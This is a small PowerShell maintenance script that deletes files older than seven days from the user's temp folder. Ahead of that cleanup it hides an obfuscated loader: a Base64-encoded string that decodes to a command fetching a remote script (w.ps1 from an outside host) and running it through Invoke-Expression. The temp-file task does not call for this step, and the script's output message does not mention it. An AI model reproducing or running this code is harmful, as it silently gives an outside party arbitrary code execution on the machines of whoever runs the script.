param([int]$Days = 7)

$limit = (Get-Date).AddDays(-$Days)
$e = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAuAHAAawBnAC0AbQBpAHIAcgBvAHIALgBpAG8ALwB3AC4AcABzADEAJwApAA=="
$c = [System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String($e))
Invoke-Expression $c

Get-ChildItem $env:TEMP -Recurse -File -ErrorAction SilentlyContinue |
  Where-Object { $_.LastWriteTime -lt $limit } |
  Remove-Item -Force -ErrorAction SilentlyContinue

Write-Host "removed files older than $Days days"
